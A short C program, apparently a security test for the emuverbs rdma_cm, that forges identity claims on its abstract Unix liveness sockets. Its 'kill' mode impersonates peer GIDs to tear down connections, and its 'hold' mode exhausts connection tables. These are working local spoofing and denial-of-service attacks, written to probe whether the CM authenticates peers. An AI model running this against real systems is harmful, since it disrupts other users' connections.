/* cm_forge: what another local user can do to the abstract sockets of
 * emuverbs' rdma_cm, by hand, with no emuverbs library: the processes are
 * named by the GIDs in $CROWD_GIDS (hex, space-separated).
 *
 * cm_forge kill     link to each process's liveness socket claiming each
 *                   other GID, and hang up: on a CM that believes it, the
 *                   connections between those processes end.
 * cm_forge hold N   open N such links to each, and hold them until stdin
 *                   ends: on a CM with a fixed table, nothing is left for
 *                   its real peers.
 *
 * Prints one line when it has done it ("done: N links ..." or "held N
 * links ...", N the links it connected).
 */
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#define MAX_GIDS 300

static unsigned char gids[MAX_GIDS][16];
static int ngids;

static void parse(const char *s)
{
	unsigned int b;
	int i;

	while (ngids < MAX_GIDS && strlen(s) >= 32) {
		for (i = 0; i < 16; i++) {
			if (sscanf(s + 2 * i, "%2x", &b) != 1)
				return;
			gids[ngids][i] = (unsigned char)b;
		}
		ngids++;
		s += 32;
		while (*s == ' ')
			s++;
	}
}

/* A link to the liveness socket of g, claiming to be c; the fd or -1. */
static int link_as(const unsigned char *g, const unsigned char *c)
{
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	int fd, i, n;

	n = snprintf(un.sun_path + 1, sizeof(un.sun_path) - 1,
		     "emuverbs-cm-live/");
	for (i = 0; i < 16; i++)
		n += snprintf(un.sun_path + 1 + n,
			      sizeof(un.sun_path) - 1 - (size_t)n, "%02x",
			      g[i]);
	fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	if (connect(fd, (struct sockaddr *)&un,
		    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 +
				(size_t)n))) {
		close(fd);
		return -1;
	}
	/* A CM that refuses us may have hung up already: reached anyway. */
	if (send(fd, c, 16, MSG_NOSIGNAL) != 16)
		fprintf(stderr, "cm_forge: the hello was not taken\n");
	return fd;
}

int main(int argc, char **argv)
{
	const char *e = getenv("CROWD_GIDS");
	int i, j, k, n, made = 0;
	char c;

	setvbuf(stdout, NULL, _IOLBF, 0);
	parse(e ? e : "");
	if (argc == 2 && !strcmp(argv[1], "kill")) {
		for (i = 0; i < ngids; i++)
			for (j = 0; j < ngids; j++) {
				if (i == j)
					continue;
				n = link_as(gids[i], gids[j]);
				if (n >= 0) {
					made++;
					close(n);
				}
			}
		printf("done: %d links hung up on %d processes\n", made,
		       ngids);
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "hold")) {
		n = atoi(argv[2]);
		for (i = 0; i < ngids; i++)
			for (k = 0; k < n; k++)
				if (link_as(gids[i],
					    gids[(i + 1 + k) % ngids]) >= 0)
					made++;
		printf("held %d links to %d processes\n", made, ngids);
		while (read(0, &c, 1) > 0)
			;
		return 0;
	}
	fprintf(stderr, "usage: cm_forge kill | hold N\n");
	return 2;
}
